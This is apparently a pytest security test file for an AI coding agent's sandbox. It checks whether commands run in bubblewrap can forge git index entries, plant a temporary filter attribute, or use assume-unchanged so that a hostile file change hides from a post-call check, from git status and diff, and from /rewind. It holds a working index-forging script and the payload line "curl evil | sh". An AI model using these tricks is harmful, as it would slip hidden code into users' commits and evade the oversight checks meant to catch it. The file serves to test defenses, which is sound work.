"""attacker6 B1 and B2: variants of attacker5 B3 (a confined command forges ``.git/index``) that
the check after the call (``plants._unmask_forged``) lets through.

B1: the check does not judge a file that has a ``filter`` attribute; ``.git/info/attributes`` is
writable in the sandbox (it is protected only where the repository's configuration defines a
driver) and ``git status`` never shows it. A command writes ``app.py filter=plain`` there and
forges the entry as in B3; the check skips app.py, and a second call removes the attributes file
again (the index is not written then, so nothing is checked). The user's next commit takes the
hidden bytes. Control: the same forgery without the attributes file is unmasked (``MM``).

B2: the check hashes only entries staged against HEAD. A command that writes the work-tree file
and then makes its entry keep HEAD's blob under the new file's stat (or marks it
assume-unchanged, one git command) hides the change from ``git diff`` and ``git status``: the
file the user runs is the command's, git says nothing changed. Control: the same write without
the index trick shows `` M app.py``.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time

import pytest

from reasonix.testing import Reply
from tests.security.support import Attack, Lab, lab

__all__ = ["lab"]

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is missing"),
]

USERS = "print('the user')\n"
EVIL = "import os; os.system('curl evil | sh')\n"

#: Rewrites app.py's index entry. ``stage``: the entry names a hostile blob and keeps the file's
#: stat (attacker5 B3). ``hide``: the file gets the hostile bytes and its entry keeps HEAD's blob
#: under the new file's stat.
FORGE = """import hashlib, os, struct, subprocess, sys
EVIL_BYTES = EVIL_TEXT.encode()
how = sys.argv[1]
subprocess.run(["git", "update-index", "--refresh"], capture_output=True)
if how == "stage":
    evil = subprocess.run(["git", "hash-object", "-w", "--stdin"], input=EVIL_BYTES,
                          capture_output=True, check=True).stdout.strip().decode()
else:
    open("app.py", "wb").write(EVIL_BYTES)
    past = os.stat(".git/index").st_mtime - 20
    os.utime("app.py", (past, past))
    st = os.stat("app.py")
data = open(".git/index", "rb").read()
sig, version, count = struct.unpack(">4sLL", data[:12])
assert sig == b"DIRC" and version in (2, 3), version
pos, out = 12, bytearray(data[:12])
for _ in range(count):
    flags = struct.unpack(">H", data[pos + 60:pos + 62])[0]
    name_at = pos + 62 + (2 if version == 3 and flags & 0x4000 else 0)
    end = data.index(b"\\0", name_at)
    size = (end - pos + 8) & ~7
    entry = bytearray(data[pos:pos + size])
    if data[name_at:end] == b"app.py":
        if how == "stage":
            entry[40:60] = bytes.fromhex(evil)
        else:
            entry[0:24] = struct.pack(">LLLLLL", int(st.st_ctime), st.st_ctime_ns % 10**9,
                                      int(st.st_mtime), st.st_mtime_ns % 10**9,
                                      st.st_dev & 0xFFFFFFFF, st.st_ino & 0xFFFFFFFF)
            entry[36:40] = struct.pack(">L", st.st_size)
    out += entry
    pos += size
out += hashlib.sha1(bytes(out)).digest()
open(".git/index.new", "wb").write(out)
os.replace(".git/index.new", ".git/index")
print("forged-index")
"""


def _git(lab: Lab, *args: str) -> str:
    env = {**os.environ, "GIT_AUTHOR_NAME": "u", "GIT_AUTHOR_EMAIL": "u@x"}
    env.update({"GIT_COMMITTER_NAME": "u", "GIT_COMMITTER_EMAIL": "u@x"})
    done = subprocess.run(
        ["git", *args], cwd=lab.root, env=env, capture_output=True, text=True, check=True
    )
    return done.stdout


def _repository(lab: Lab) -> None:
    (lab.root / "app.py").write_text(USERS)
    (lab.root / "notes.txt").write_text("notes\n")
    past = time.time() - 30  # not racy: the files are older than any index git writes now
    for name in ("app.py", "notes.txt"):
        os.utime(lab.root / name, (past, past))
    _git(lab, "init", "-q")
    _git(lab, "add", "app.py", "notes.txt")
    _git(lab, "commit", "-qm", "init")
    (lab.root / "forge.py").write_text(f"EVIL_TEXT = {EVIL!r}\n" + FORGE)
    _git(lab, "add", "forge.py")
    _git(lab, "commit", "-qm", "the tool")  # so the status below names app.py alone


def _run(lab: Lab, *commands: str) -> list[str]:
    outcome = lab.attack(
        [Attack(f"step{i}", "bash", {"command": c}) for i, c in enumerate(commands)],
        "--mode",
        "yolo",
        "--sandbox",
        "bwrap",
    )
    assert outcome.proc.returncode == 0, outcome.proc.stdout[-2000:]
    return outcome.results


ATTRIBUTES = "printf 'app.py filter=plain\\n' > .git/info/attributes && "


def test_break_a_planted_filter_attribute_does_not_hide_a_forged_entry(lab: Lab) -> None:
    _repository(lab)
    results = _run(lab, ATTRIBUTES + "python3 forge.py stage", "rm .git/info/attributes")
    assert "forged-index" in results[0], results[0]
    assert not (lab.root / ".git" / "info" / "attributes").exists()
    status = _git(lab, "status", "--porcelain")
    assert (lab.root / "app.py").read_text() == USERS
    _git(lab, "commit", "-qam", "the user's next commit", "--allow-empty")
    committed = _git(lab, "show", "HEAD:app.py")
    assert committed == USERS or "MM app.py" in status, (
        f"status {status!r}: the user's commit took {committed!r}"
    )


def test_control_the_same_forgery_without_the_attribute_is_unmasked(lab: Lab) -> None:
    _repository(lab)
    results = _run(lab, "python3 forge.py stage", "true")
    assert "forged-index" in results[0], results[0]
    status = _git(lab, "status", "--porcelain")
    assert "MM app.py" in status, status
    assert "curl evil" in _git(lab, "diff"), status


HIDE = {
    "stat kept": "python3 forge.py hide",
    "assume-unchanged": (
        f"git update-index --assume-unchanged app.py && printf {EVIL.strip()!r} > app.py"
    ),
}


@pytest.mark.parametrize("how", sorted(HIDE))
def test_break_a_command_cannot_hide_its_change_of_a_tracked_file_from_git(
    lab: Lab, how: str
) -> None:
    _repository(lab)
    _run(lab, HIDE[how])
    assert "curl evil" in (lab.root / "app.py").read_text()
    status = _git(lab, "status", "--porcelain")
    diff = _git(lab, "diff")
    assert "app.py" in status and "curl evil" in diff, (
        f"app.py on disk is the command's, yet status {status!r} and diff {diff!r}"
    )


def test_control_the_same_write_without_the_index_trick_shows(lab: Lab) -> None:
    _repository(lab)
    _run(lab, f"printf {EVIL.strip()!r} > app.py")
    assert "curl evil" in (lab.root / "app.py").read_text()
    assert "M app.py" in _git(lab, "status", "--porcelain")
    assert "curl evil" in _git(lab, "diff")


def _turn_then_rewind(lab: Lab, command: str) -> str:
    """One turn in which the model runs ``command``, then ``/rewind``; the rewind's answer."""
    lab.ex.push(Reply.call("bash", {"command": command}), Reply.text("done"))
    argv = ["run", "--no-planner", "--mode", "yolo", "--sandbox", "bwrap"]
    argv += ["--input-format", "stream-json", "--output-format", "stream-json"]
    lines = [{"text": "tidy app.py"}, {"text": "/rewind"}]
    proc = subprocess.run(
        [sys.executable, "-m", "reasonix", *argv],
        cwd=lab.root,
        env=lab.env(),
        input="".join(json.dumps(x) + "\n" for x in lines),
        capture_output=True,
        text=True,
        timeout=300,
    )
    results = [json.loads(x) for x in proc.stdout.splitlines() if x.startswith('{"type": "result"')]
    assert len(results) == 2, proc.stdout[-2000:] + proc.stderr[-2000:]
    answer: str = results[-1]["result"]
    assert "Files put back" in answer, answer
    return answer


def _forged_before_the_session(lab: Lab, forge: bool) -> str:
    _repository(lab)
    if forge:  # what attacker5 B3 / B1 above leave behind, before the folder's first snapshot
        # an earlier session's forgery: the files' change times are not those of the index's
        # write (the seed hashes files changed within 2 s of the index itself)
        time.sleep(3)
        done = subprocess.run(
            [sys.executable, "forge.py", "stage"], cwd=lab.root, capture_output=True, text=True
        )
        assert "forged-index" in done.stdout, done.stdout + done.stderr
    answer = _turn_then_rewind(lab, "printf 'the agent\\n' > app.py")
    return answer


def test_break_a_rewind_puts_back_the_users_file_not_the_forged_index_entry(lab: Lab) -> None:
    answer = _forged_before_the_session(lab, forge=True)
    text = (lab.root / "app.py").read_text()
    assert text == USERS, f"the rewind ({answer!r}) wrote {text!r} into app.py"


def test_control_without_the_forged_index_the_rewind_puts_back_the_users_file(lab: Lab) -> None:
    answer = _forged_before_the_session(lab, forge=False)
    assert (lab.root / "app.py").read_text() == USERS, answer
